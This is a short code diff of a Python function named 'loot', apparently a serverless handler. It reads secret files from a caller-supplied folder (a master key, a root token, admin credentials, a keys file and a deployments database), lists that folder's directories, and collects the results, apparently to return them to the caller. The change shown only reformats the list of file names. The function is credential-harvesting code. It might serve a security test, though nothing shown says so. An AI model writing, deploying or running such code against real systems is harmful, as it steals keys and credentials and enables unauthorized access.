@@ -47,8 +47,13 @@ def loot(event: Any, context: Any) -> dict[str, Any]:
     state = query.get("state", "")
     admin = int(query.get("admin", "0"))
     found: dict[str, Any] = {}
-    for name in ("secrets/master.key", "secrets/root-token", "access/admin-credentials",
-                 "access/keys.json", "deployments.sqlite3"):
+    for name in (
+        "secrets/master.key",
+        "secrets/root-token",
+        "access/admin-credentials",
+        "access/keys.json",
+        "deployments.sqlite3",
+    ):
         found[f"file {name}"] = _read(os.path.join(state, name))
     found["state folder exists"] = os.path.exists(state)
     found["state folder listing"] = [root for root, _, _ in os.walk(state)][:20]
